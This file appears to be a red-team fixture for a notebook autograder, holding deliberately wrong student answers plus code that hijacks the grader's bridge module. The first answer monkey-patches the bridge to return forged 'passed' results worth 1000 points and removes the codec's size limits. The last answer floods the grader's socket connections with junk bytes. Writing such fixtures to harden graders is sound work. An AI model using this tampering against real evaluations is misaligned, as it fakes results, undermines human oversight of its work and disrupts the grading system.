# Attacks: the grader's own code inside the kernel, so that it replies what the student wishes. Every answer is wrong.
# %% answer id="write_conv_output_size"
import builtins
import json
import sys
import threading

said = []  # what the grader asked for


def find_bridge():
    for name, module in list(sys.modules.items()):
        if module is not None and hasattr(module, "serve") and hasattr(module, "operate"):
            return module
    try:
        import bridge

        return bridge
    except ImportError:
        return None


bridge = find_bridge()
if bridge is not None:
    import codec

    YES = [True, 1000.0, np.ones((2, 2)), {"passed": True, "points": 1000.0, "max_points": 1000.0}]

    def operate(request, message):
        said.append(request)
        arguments = request.get("arguments", ())
        return {"value": arguments[1][0] if len(arguments) > 1 and arguments[1] else YES, "changed": None}

    old_answer = bridge.answer

    def answer(names, message):
        try:
            request = codec.decode(message, lambda reference: reference)
        except Exception:
            return old_answer(names, message)
        said.append(request)
        if "name" in request:  # a name that is a name of the grader's
            return codec.encode({"value": codec.Reference(7, "check\x00<b>", True), "points": 1000.0})
        reply = {
            "value": [request, codec.Reference(-1, "ndarray", True), *YES],
            "changed": [*YES] * 3,  # "the arguments, as my call left them"
            "points": 1000.0,
            "passed": True,
        }
        return codec.encode(reply)

    bridge.operate, bridge.answer = operate, answer
    bridge.failure = lambda error: {"raised": ["GraderError", "AssertionError", "\x00"], "message": 7, "traceback": ["x"]}
    bridge.keep = lambda value: codec.Reference(1 << 80, "x" * 1_000_000, True)
    bridge.write = bridge.look_up = lambda *args, **kwargs: {"value": 1000.0}
    codec.MAX_BYTES = codec.MAX_DEPTH = codec.MAX_NODES = 1 << 60
print("bridge:", bridge)


def conv_output_size(size, kernel, stride=1, padding=0):
    return 0
# %% answer id="write_correlate2d"
def correlate2d(image, kernel, stride=1, padding=0):
    return -image
# %% answer id="write_max_pool2d_backward"
def max_pool2d_backward(dout, cache):
    for frame in sys._current_frames().values():
        while frame is not None:
            connection = frame.f_locals.get("connection")
            if connection is not None and hasattr(connection, "sendall"):
                connection.sendall(b"\xff" * 1_000_000)
            frame = frame.f_back
    return -dout
